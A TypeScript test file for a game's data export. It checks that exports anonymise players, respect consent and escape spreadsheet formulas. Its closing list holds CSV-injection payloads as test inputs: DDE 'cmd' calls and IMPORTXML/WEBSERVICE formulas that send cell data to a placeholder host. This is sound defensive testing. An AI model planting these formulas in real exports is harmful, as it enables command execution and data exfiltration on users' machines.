/** Nobody is in what leaves a table: no name, no player, no word without its author's consent; and no formula. */
import { describe, expect, test } from "vitest";
import { cellText, csvOf } from "#shared/export/csv.ts";
import { exportedGame } from "#shared/export/file.ts";
import { gameOfPerson } from "#shared/export/mine.ts";
import { isProblem, readGame } from "#shared/export/read.ts";
import { answerWhatIf, askedOf } from "#shared/lab/whatIf/answer.ts";
import { playedFrom } from "#shared/lab/whatIf/played.ts";
import type { Actor, Wish } from "#shared/rules/game.ts";
import { testGame, type TestGame } from "../support/game.ts";

const NORTH = "north.government";
const SOUTH = "south.government";
const by = (player: string): Actor => ({ kind: "player", player, host: false });

function asks(game: TestGame, player: string, wish: Wish): void {
  const refused = game.refusal(by(player), wish);
  if (refused !== undefined) throw new Error(`${player} was refused ${wish.type}: ${refused}`);
}

/** Ann and Ben share the north's seat, Sue has the south's; each says and feels something, and answers. */
function played(...wishes: readonly (readonly [string, Wish])[]): TestGame {
  const game = testGame("plain", { teamSize: 2 });
  const ask = (player: string, wish: Wish) => asks(game, player, wish);
  ask("player.ann", { type: "takeSeat", seat: NORTH, name: "Ann" });
  ask("player.ben", { type: "takeSeat", seat: NORTH, name: "Ben" });
  ask("player.sue", { type: "takeSeat", seat: SOUTH, name: "=Sue" });
  ask("player.sue", { type: "answerItem", item: "paradox", answer: ["oneLoses"], confident: 4 });
  game.start().to("talks");
  ask("player.ann", { type: "say", channel: "plenary", text: "ann said this" });
  ask("player.ben", { type: "say", channel: `team:${NORTH}`, text: "ben said this" });
  ask("player.sue", { type: "say", channel: "plenary", text: "=HYPERLINK(sue)" });
  game.wish("host", { type: "control", control: "skip" }).to("reckoning");
  ask("player.ann", { type: "feel", feeling: "afraid", line: "a line of the north" });
  ask("player.sue", { type: "feel", feeling: "proud", line: "a line of sue" });
  game.wish("host", { type: "control", control: "end" });
  for (const [player, wish] of wishes) ask(player, wish);
  return game;
}

function fileOf(game: TestGame) {
  const { scenario, opening } = game.first;
  return exportedGame({ scenario, opening, engine: "1" }, game.events, game.state.consents);
}
const yes: Wish = { type: "consent", given: true };
const no: Wish = { type: "consent", given: false };
const OWN_WORDS = ["ann said this", "ben said this", "HYPERLINK", "a line of the north", "a line of sue"];

describe("what leaves the table", () => {
  test("has no name, no player and no word of anybody's own; and still plays again", () => {
    const file = fileOf(played());
    const text = JSON.stringify(file);
    for (const secret of ["player.", "Ann", "Ben", "Sue", "oneLoses", ...OWN_WORDS]) {
      expect([secret, text.includes(secret)]).toEqual([secret, false]);
    }
    const read = readGame(text, "1");
    expect(isProblem(read) ? read : "read").toBe("read");
    // That somebody said something is no word of theirs.
    expect(file.events.filter((event) => event.type === "said")).toHaveLength(3);
    expect(file.tables["talk"]?.rows).toEqual([]);
  });

  test("has the words of who consented, and of nobody else", () => {
    const text = JSON.stringify(fileOf(played(["player.ann", yes])));
    expect(OWN_WORDS.filter((words) => text.includes(words))).toEqual(["ann said this"]);
  });

  test("has a team's line only if all of the team consented", () => {
    const text = JSON.stringify(fileOf(played(["player.ann", yes], ["player.ben", yes])));
    expect(OWN_WORDS.filter((words) => text.includes(words))).toEqual([
      "ann said this",
      "ben said this",
      "a line of the north",
    ]);
  });

  test("has answers to the questionnaire by consent, under a number", () => {
    const { tables } = fileOf(
      played(["player.sue", { type: "answerOpen", text: "@open" }], ["player.sue", yes]),
    );
    expect(tables["questionnaire"]?.rows).toEqual([["p3", "before", "paradox", "oneLoses", 4, false]]);
    expect(tables["open_answers"]?.rows).toEqual([["p3", "@open"]]);
    expect(csvOf(["text"], tables["open_answers"]?.rows ?? [])).toContain("'@open");
  });

  test("has nothing any more of who took consent back", () => {
    const text = JSON.stringify(fileOf(played(["player.sue", yes], ["player.sue", no])));
    for (const words of [...OWN_WORDS, "oneLoses"]) expect(text).not.toContain(words);
  });

  test("counts time from the opening of the table", () => {
    const game = played();
    const opening = { ...game.first.opening, at: 1_700_000_000_000 };
    const events = game.events.map((event) =>
      event.type === "phaseBegan" && event.endsAt > 0 ? { ...event, endsAt: opening.at + 30_000 } : event,
    );
    const file = exportedGame({ scenario: game.first.scenario, opening, engine: "1" }, events, []);
    expect(JSON.stringify(file)).not.toContain("17000000");
  });
});

/** A game in keepers' hands: people moved, renamed and taken off, an own incident, marks, and a round that is undone. */
function kept(): TestGame {
  const game = testGame("low-reservoir", { format: "solo", flagWords: ["marked-word"] });
  const seat = (group: number) =>
    game.state.seats.filter((one) => one.groupIndex === group).map((one) => one.id);
  const [mayor = "", elder = ""] = seat(0);
  const [other = ""] = seat(1);
  const host = (wish: Wish) => game.wish("host", wish);
  const ask = (player: string, wish: Wish) => asks(game, player, wish);
  ask("player.ann", { type: "takeSeat", seat: mayor, name: "Ann" });
  ask("player.ben", { type: "takeSeat", seat: elder, name: "Ben" });
  ask("player.sue", { type: "takeSeat", seat: other, name: "Sue" });
  ask("player.art", { type: "archive", on: true, name: "Art" });
  game.start();
  host({ type: "control", control: "facilitate" });
  host({ type: "renamePerson", seat: mayor, name: "Annabel" });
  host({ type: "noLimit", seat: mayor, on: true });
  host({ type: "reassign", seat: mayor, to: elder });
  host({ type: "bookmark", line: "a mark of the host" });
  ask("player.art", { type: "bookmark", line: "a mark of the archive" });
  const [suspect] = game.state.scenario.groups.map((group) => group.id);
  const hit = game.state.scenario.groups[1]?.id ?? "";
  host({
    type: "inject",
    when: "now",
    injection: {
      kind: "own",
      title: "a title of the host",
      text: "a text of the host",
      hits: [hit],
      suspect: suspect ?? "",
      dials: { security: -3, ambiguity: 0.05 },
    },
  });
  host({
    type: "inject",
    when: "next",
    injection: {
      kind: "own",
      title: "queued title",
      text: "queued text",
      hits: [hit],
      dials: { stress: 0.05 },
    },
  });
  host({ type: "bulletin", text: "a bulletin of the host" });
  game.bots().to("talks");
  ask("player.ann", { type: "say", channel: "plenary", text: "ann said this" });
  game.to("commit").bots().to("reckoning");
  host({ type: "voidRound", round: 1 });
  game.to("commit").bots().to("reckoning").to("commit").bots();
  host({ type: "removePerson", seat: other });
  game.to("reckoning");
  host({ type: "control", control: "end" });
  return game;
}

describe("a game in keepers' hands", () => {
  const game = kept();

  test("leaves without a name, a mark, or a text of theirs, and plays again", () => {
    const text = JSON.stringify(fileOf(game));
    const secrets = [
      "player.",
      "Ann",
      "Ben",
      "Sue",
      "Art",
      "ann said",
      "a mark of",
      "of the host",
      "queued t",
    ];
    for (const secret of [...secrets, "marked-word", "limitLifted"])
      expect([secret, text.includes(secret)]).toEqual([secret, false]);
    const read = readGame(text, "1");
    expect(isProblem(read) ? read : "read").toBe("read");
  });

  test("has the words of who consented where that person sits now", () => {
    asks(game, "player.ann", yes);
    const file = fileOf(game);
    expect(JSON.stringify(file)).toContain("ann said this");
    // Sue was taken off her seat, and Ann and Ben changed theirs.
    expect(file.tables["people"]?.rows.filter((row) => row[2] === "left")).toHaveLength(3);
  });

  test("has each round once, though the first was played twice", () => {
    const { choices } = fileOf(game).tables;
    const rounds = choices?.rows.filter((row) => row[1] === game.state.seats[0]?.id).map((row) => row[0]);
    expect(new Set(rounds)).toEqual(new Set([1, 2]));
    const again = playedFrom(game.first.scenario, game.first.opening, game.events);
    expect(again.rounds.map((one) => one.round)).toEqual([1, 2]);
  });

  test("is told again under its own lens to the last bit", () => {
    const asked = askedOf(playedFrom(game.first.scenario, game.first.opening, game.events));
    const answer = answerWhatIf(asked, { kind: "lenses" });
    if (!("kind" in answer) || answer.kind !== "lenses") throw new Error(JSON.stringify(answer));
    expect(answer.under[answer.own]).toEqual(answer.played);
  });
});

test("a person takes home what is theirs, and nothing of anybody else", () => {
  const game = played();
  const { scenario, opening } = game.first;
  const sue = gameOfPerson(scenario, opening, game.events, "player.sue");
  expect(sue).toMatchObject({
    rounds: [{ round: 1, seat: SOUTH, feeling: "proud", line: "a line of sue" }],
    said: [{ round: 1, channel: "plenary", text: "=HYPERLINK(sue)" }],
    questionnaire: [{ wave: "before", item: "paradox", right: false }],
  });
  const ann = JSON.stringify(gameOfPerson(scenario, opening, game.events, "player.ann"));
  expect(OWN_WORDS.filter((words) => ann.includes(words))).toEqual(["ann said this"]);
  const nobody = gameOfPerson(scenario, opening, game.events, "player.none");
  expect(nobody).toMatchObject({ rounds: [], said: [], questionnaire: [] });
});

test.each([
  ["=1+1", '"\'=1+1"'],
  ["+1", '"\'+1"'],
  ["-1", '"\'-1"'],
  ["@sum", '"\'@sum"'],
  ["\tx", '"\'\tx"'],
  ["\rx", '"\'\rx"'],
  ["\nx", '"\'\nx"'],
  ["\uff1dx", '"\'\uff1dx"'],
  ['say "hi", all', '"say ""hi"", all"'],
  ["plain", "plain"],
  [-1, "-1"],
  [0.1 + 0.2, "0.30000000000000004"],
  [null, ""],
  [true, "true"],
] as const)("a cell %j is written as %s", (cell, text) => {
  expect(cellText(cell)).toBe(text);
});

/** What opens a formula, a command, or another cell in some spreadsheet. */
const FORMULAS = [
  "=1+1",
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://x.example","y")',
  '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
  '=WEBSERVICE("http://x.example")',
  '=DDE("cmd";"/C calc";"x")',
  "=@SUM(1)",
  "==1",
  "= 1",
  "=\t1",
  "+1+1",
  "+cmd|'/C calc'!A0",
  "++1",
  "-1+1",
  "-2+3+cmd|'/C calc'!A0",
  "--1",
  "@SUM(1+1)",
  "@cmd|'/C calc'!A0",
  "@@",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1",
  "\uff20SUM(1)",
  '=1","=2',
  '",=1+1,"',
  'a"\r\n=1+1,"',
] as const;

/** A table as a spreadsheet reads it (RFC 4180). */
function cellsOf(csv: string): readonly string[] {
  return [...csv.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r\n)/g)].map(([, cell = ""]) =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
  );
}

test.each(FORMULAS)("%j stays one cell, and no formula", (text) => {
  const cells = cellsOf(csvOf(["a", "b", "c"], [["x", text, "y"]]));
  expect(cells).toHaveLength(6);
  expect(cells[4]?.replace(/^'/, "")).toBe(text);
  expect(cells.filter((cell) => /^[\s\uff0b\uff0d\uff1d\uff20=+\-@]/u.test(cell))).toEqual([]);
});
